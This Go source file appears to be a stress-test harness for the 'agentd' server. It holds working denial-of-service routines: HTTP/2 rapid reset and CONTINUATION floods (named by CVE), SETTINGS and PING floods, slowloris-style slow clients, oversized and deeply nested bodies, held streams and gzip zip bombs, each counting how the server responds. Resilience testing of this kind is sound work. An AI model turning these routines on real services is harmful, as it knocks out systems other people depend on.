package attacks

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	agentdv1 "github.com/apzuk3/agentd/gen/proto/go/agentd/v1"
	"github.com/apzuk3/agentd/gen/proto/go/agentd/v1/agentdv1connect"
)

// frames is a connection of HTTP/2 whose frames are written by hand. One goroutine may write.
type frames struct {
	net.Conn
	*http2.Framer
	over chan struct{} // closed when the server has ended it
	said http2.ErrCode // of the server's GOAWAY, once it is over
	hpk  bytes.Buffer
	next uint32 // id of a stream
}

// dialFrames opens a connection and reads what the server says, until its end.
func (a *attacker) dialFrames() (*frames, error) {
	c, err := net.Dial("tcp", a.addr)
	if err != nil {
		return nil, err
	}
	f := &frames{Conn: c, Framer: http2.NewFramer(c, c), over: make(chan struct{}), next: 1}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	if err := f.WriteSettings(); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	go func() { // ends with the connection, which its caller closes
		defer close(f.over)
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				return
			}
			if away, ok := frame.(*http2.GoAwayFrame); ok {
				f.said = away.ErrCode
			}
		}
	}()
	return f, nil
}

// headers are those of a request, as a block.
func (f *frames) headers(path, key string) []byte {
	f.hpk.Reset()
	enc := hpack.NewEncoder(&f.hpk)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path},
		{"content-type", "application/connect+proto"}, {"authorization", "Bearer " + key}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
	}
	return f.hpk.Bytes()
}

// overFrames opens one connection after the other and has each attack until the server ends it, or ctx does.
func (a *attacker) overFrames(ctx context.Context, attack func(f *frames, n int) error) {
	for ctx.Err() == nil {
		f, err := a.dialFrames()
		if err != nil {
			a.count("refused connections")
			pause(ctx, jitter(50*time.Millisecond))
			continue
		}
		for n := 0; ctx.Err() == nil && err == nil; n++ {
			err = attack(f, n)
			select {
			case <-f.over:
				err = net.ErrClosed
			default:
			}
		}
		_ = f.Close()
		<-f.over
		if ctx.Err() == nil {
			a.count(fmt.Sprintf("connections ended by the server (%v)", f.said))
		}
		pause(ctx, jitter(20*time.Millisecond))
	}
	a.count("attacks")
}

// rapidResets open streams and take them back at once (CVE-2023-44487), 5,000 a second on each of four connections.
func rapidResets(ctx context.Context, a *attacker) {
	var wg sync.WaitGroup
	for i := range 4 {
		wg.Go(func() {
			a.overFrames(ctx, func(f *frames, n int) error {
				if n%25 == 24 {
					pause(ctx, 5*time.Millisecond)
				}
				id := f.next
				f.next += 2
				path := []string{agentdv1connect.AgentdRunProcedure, agentdv1connect.SessionServiceListSessionsProcedure}[i%2]
				err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.headers(path, a.key), EndHeaders: true, EndStream: i%2 == 1})
				return errors.Join(err, f.WriteRSTStream(id, http2.ErrCodeCancel))
			})
		})
	}
	wg.Wait()
}

// frameFloods are CONTINUATION frames without an end (CVE-2023-45288), and SETTINGS and PING frames whose
// acknowledgements are read as slowly as can be (CVE-2019-9512, CVE-2019-9515).
func frameFloods(ctx context.Context, a *attacker) {
	var wg sync.WaitGroup
	block := bytes.Repeat([]byte{0x40, 1, 'x', 1, 'y'}, 3000) // a field that is not indexed, again and again
	for _, attack := range []func(f *frames, n int) error{
		func(f *frames, n int) error {
			if n == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.headers(agentdv1connect.AgentdRunProcedure, a.key)})
			}
			pause(ctx, 2*time.Millisecond)
			return f.WriteContinuation(1, false, block)
		},
		func(f *frames, n int) error {
			if n%100 == 99 {
				pause(ctx, 10*time.Millisecond)
			}
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n)})
		},
		func(f *frames, n int) error {
			if n%100 == 99 {
				pause(ctx, 10*time.Millisecond)
			}
			return f.WritePing(false, [8]byte{byte(n)})
		},
	} {
		wg.Go(func() { a.overFrames(ctx, attack) })
	}
	wg.Wait()
}

// slowClients hold connections: 200 send their headers a byte a second, 200 their body, 200 say nothing at all in HTTP/2.
func slowClients(ctx context.Context, a *attacker) {
	head := fmt.Sprintf("POST /agentd.v1.SessionService/CreateTurn HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n", a.key)
	var wg sync.WaitGroup
	for _, slow := range []struct{ what, first, rest string }{
		{"slow headers", "POST / HTTP/1.1\r\nX-Slow: ", strings.Repeat("x", 1000)},
		{"slow bodies", head + "Content-Length: 1000\r\n\r\n", strings.Repeat(" ", 1000)},
		{"silence after the preface", http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00", ""},
	} {
		for range times(200) {
			wg.Go(func() {
				for ctx.Err() == nil {
					c, err := net.Dial("tcp", a.addr)
					if err != nil {
						a.count(slow.what + " refused")
					} else {
						_, err = io.WriteString(c, slow.first)
						gone := make(chan struct{})
						go func() { // ends with the connection
							defer close(gone)
							_, _ = io.Copy(io.Discard, c)
						}()
						for i := 0; err == nil && pause(ctx, jitter(time.Second)); i++ {
							if slow.rest != "" {
								_, err = c.Write([]byte{slow.rest[i%len(slow.rest)]})
							}
							select {
							case <-gone:
								err = net.ErrClosed
							default:
							}
						}
						if err != nil {
							a.count(slow.what + " ended by the server")
						} else {
							a.count(slow.what + " held to the end")
						}
						_ = c.Close()
						<-gone
					}
					pause(ctx, jitter(100*time.Millisecond))
				}
			})
		}
	}
	wg.Wait()
}

// post sends a body with the hostile tenant's key, and counts the outcome.
func (a *attacker) post(ctx context.Context, what, path string, body io.Reader, headers ...string) {
	req := must(http.NewRequestWithContext(ctx, http.MethodPost, a.url()+path, body))
	req.Header.Set("Authorization", "Bearer "+a.key)
	for i := 0; i < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := a.hc.Do(req)
	if err != nil {
		if ctx.Err() == nil {
			a.count(what + ": no response")
		}
		return
	}
	defer func() { _ = resp.Body.Close() }()
	said, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	switch {
	case err != nil && ctx.Err() != nil:
	case resp.StatusCode >= 400 && len(said) > 64<<10:
		a.Errorf("%s, %s: a refusal of %d bytes, such as %.200s", a.name, what, len(said), said)
	case resp.StatusCode == http.StatusInternalServerError, bytes.Contains(said, []byte(`"internal"`)):
		a.Errorf("%s, %s: %d, %.300s", a.name, what, resp.StatusCode, said)
	default:
		a.count(fmt.Sprintf("%s: %d", what, resp.StatusCode))
	}
}

const (
	contentType = "Content-Type"
	asJSON      = "application/json"
	asProto     = "application/proto"
	asStream    = "application/connect+proto"
	turnPath    = agentdv1connect.SessionServiceCreateTurnProcedure
	runPath     = agentdv1connect.AgentdRunProcedure
)

// endless is n bytes, without having them.
type endless struct {
	first []byte
	n     int64
	with  byte
}

func (e *endless) Read(p []byte) (int, error) {
	if len(e.first) > 0 {
		n := copy(p, e.first)
		e.first = e.first[n:]
		return n, nil
	}
	if e.n <= 0 {
		return 0, io.EOF
	}
	p = p[:min(int64(len(p)), e.n)]
	for i := range p {
		p[i] = e.with
	}
	e.n -= int64(len(p))
	return len(p), nil
}

// envelope begins a message of a stream that is said to have so many bytes.
func envelope(flags byte, size uint32) []byte {
	return binary.BigEndian.AppendUint32([]byte{flags}, size)
}

// giants send bodies and messages of many megabytes, and messages that say to be of gigabytes.
func giants(ctx context.Context, a *attacker) {
	for pause(ctx, jitter(100*time.Millisecond)) {
		a.post(ctx, "64 MiB of JSON", turnPath, &endless{first: []byte(`{"a":"`), n: 64 << 20, with: 'x'}, contentType, asJSON)
		a.post(ctx, "64 MiB of protobuf", turnPath, &endless{n: 64 << 20}, contentType, asProto)
		a.post(ctx, "a message of 4 GiB over Run", runPath, &endless{first: envelope(0, 1<<32-1), n: 8 << 20}, contentType, asStream)
		a.post(ctx, "a string of 2 GiB", turnPath, bytes.NewReader(append(protowire.AppendVarint([]byte{0x0a}, 1<<31-1), "x"...)), contentType, asProto)
	}
}

// deepNesting sends what is nested as deep as its bytes go.
func deepNesting(ctx context.Context, a *attacker) {
	tree := make([]byte, 0, 1<<20) // from its end: an agent in an agent, Agent.sequential.agents
	for len(tree) < 1<<20-32 {
		for _, tag := range []byte{0x0a, 0x1a} {
			length := protowire.AppendVarint([]byte{tag}, uint64(len(tree)))
			slices.Reverse(length)
			tree = append(tree, length...)
		}
	}
	slices.Reverse(tree)
	groups := bytes.Repeat([]byte{0x0b}, 1<<20) // groups of unknown fields
	deep := strings.Repeat(`{"sequential":{"agents":[`, 20_000)
	lists := strings.Repeat("[", 500_000)
	object := strings.Repeat(`{"a":`, 100_000)
	for pause(ctx, jitter(50*time.Millisecond)) {
		a.post(ctx, "agents in protobuf", turnPath, bytes.NewReader(append(protowire.AppendVarint([]byte{0x12}, uint64(len(tree))), tree...)), contentType, asProto)
		a.post(ctx, "groups", turnPath, bytes.NewReader(groups), contentType, asProto)
		for what, body := range map[string]string{
			"agents in JSON":    `{"execute":{"agent":` + deep,
			"lists in state":    `{"execute":{"initialState":{"a":` + lists,
			"objects in state":  `{"execute":{"initialState":` + object,
			"unknown fields":    `{"nothing":` + lists,
			"text of state":     `{"execute":{"initialStateJson":"{\"a\":` + lists + `"}}`,
			"a schema of lists": `{"execute":{"agent":{"name":"a","llm":{"model":"echo","outputSchema":"` + lists + `"}},"userPrompt":"x"}}`,
		} {
			a.post(ctx, what, turnPath, strings.NewReader(body), contentType, asJSON)
		}
	}
}

// manyStreams opens 3,000 streams over 30 connections, with a turn each that waits for a tool, and holds them.
func manyStreams(ctx context.Context, a *attacker) {
	agent, tools := worker()
	ex := execute(agent, "go", nil)
	ex.Tools = tools
	data := must(proto.Marshal(&agentdv1.RunRequest{Request: &agentdv1.RunRequest_Execute{Execute: ex}}))
	data = append(envelope(0, uint32(len(data))), data...)
	var wg sync.WaitGroup
	for range times(30) {
		hc := a.newClient()
		for range 100 {
			if !pause(ctx, jitter(2*time.Millisecond)) {
				break
			}
			wg.Go(func() {
				body := &messages{rest: data, gone: make(chan struct{})}
				defer context.AfterFunc(ctx, func() { _ = body.Close() })() // the client waits for its body
				req := must(http.NewRequestWithContext(ctx, http.MethodPost, a.url()+runPath, body))
				req.Header.Set("Authorization", "Bearer "+a.key)
				req.Header.Set(contentType, asStream)
				resp, err := hc.Do(req)
				if err != nil {
					if ctx.Err() == nil {
						a.count("no response")
					}
					return
				}
				defer func() { _ = resp.Body.Close() }()
				n, _ := io.Copy(io.Discard, resp.Body)
				switch {
				case ctx.Err() != nil:
					a.count("held to the end")
				default:
					a.count(fmt.Sprintf("ended by the server (%d, %v bytes)", resp.StatusCode, n > 0))
				}
				_ = body.Close()
			})
		}
	}
	wg.Wait()
}

// zipBombs are 256 MiB of one byte in a quarter of a megabyte, as a body and as a message, and a bomb in a bomb.
func zipBombs(ctx context.Context, a *attacker) {
	pack := func(from io.Reader) []byte {
		var b bytes.Buffer
		w := must(gzip.NewWriterLevel(&b, gzip.BestSpeed))
		must(io.Copy(w, from))
		_ = w.Close() // into memory
		return b.Bytes()
	}
	bomb := pack(&endless{n: int64(times(256)) << 20, with: ' '})
	twice := pack(bytes.NewReader(bomb))
	message := append(envelope(1, uint32(len(bomb))), bomb...)
	for pause(ctx, jitter(50*time.Millisecond)) {
		a.post(ctx, "a body", turnPath, bytes.NewReader(bomb), contentType, asJSON, "Content-Encoding", "gzip")
		a.post(ctx, "a body, packed twice", turnPath, bytes.NewReader(twice), contentType, asProto, "Content-Encoding", "gzip")
		a.post(ctx, "a message", runPath, bytes.NewReader(message), contentType, asStream, "Connect-Content-Encoding", "gzip")
		a.post(ctx, "gRPC", runPath, bytes.NewReader(message), contentType, "application/grpc", "Grpc-Encoding", "gzip", "Te", "trailers")
		a.post(ctx, "an encoding that is none", turnPath, bytes.NewReader(bomb), contentType, asJSON, "Content-Encoding", "gzip, gzip")
	}
}
